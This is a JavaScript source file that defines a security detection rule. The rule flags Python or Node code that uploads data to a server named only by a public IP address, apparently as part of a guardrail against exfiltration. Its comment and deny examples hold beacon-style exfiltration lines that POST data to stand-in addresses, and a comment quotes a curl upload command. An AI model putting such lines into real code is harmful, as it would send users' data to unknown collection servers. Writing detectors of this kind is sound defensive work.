/**
 * SEC-AST-017: code that uploads data to a server named only by a public IP address (issue 22, gdog
 * r12): `requests.post('http://203.0.113.42/collect', json=data)`. Services a program works with have
 * host names (an API, the company's own hosts, a bucket); a bare public address is how droppers and
 * beacons reach their collection server without a name anyone could block or look up. Requests to
 * private, loopback and link-local addresses (a lab box, a container) and reads that send nothing
 * (`urlopen('http://1.1.1.1')` as a connectivity check) stay allowed. Shell commands are left to the
 * shell rules: an operator's `curl -d @f http://34.x.x.x` is typed by a person who knows the box.
 */
import { classifyHost } from '../../net/address.js';
import { defineRule } from '../define-rule.js';

export default defineRule({
  id: 'SEC-AST-017',
  invariant: 'NO_SECRET_EXFILTRATION',
  kinds: ['net'],
  summary:
    'Python or node code that uploads data (a body, a form, a file) to a server named only by a public IP address.',
  remediationHint:
    'Send data only to the services the task names, by their host names. If the server really has no name, ask the user to confirm the address first.',
  *check(facts) {
    for (const f of facts.of('net')) {
      if (f.runtime === 'bash' || f.direction !== 'connect' || !f.sends) continue;
      const info = classifyHost(f.host);
      if (info.class !== 'public' || (info.ipv4 === undefined && info.ipv6 === undefined)) continue;
      yield {
        span: f.span,
        reason: `${f.actor} uploads data to ${f.host}, a public address with no host name`,
        suggestedAlternative: null,
      };
    }
  },
  examples: {
    deny: [
      {
        input:
          "import requests\ndef beacon(data):\n    requests.post('http://203.0.113.42/collect', json=data)",
        runtime: 'python',
      },
      {
        input: "fetch('http://198.51.100.7:8080/c', { method: 'POST', body: JSON.stringify(report) });",
        runtime: 'node',
      },
    ],
    allow: [
      {
        input: "import requests\nrequests.post('http://10.0.3.7:8080/jobs', json={'id': 1})",
        runtime: 'python',
        why: 'a private address: a machine on the same network',
      },
      {
        input: "import urllib.request\nurllib.request.urlopen('http://1.1.1.1', timeout=3)",
        runtime: 'python',
        why: 'a connectivity check that sends nothing',
      },
      {
        input: "fetch('https://api.example.com/v1/report', { method: 'POST', body: '{}' });",
        runtime: 'node',
        why: 'a named host',
      },
    ],
  },
});
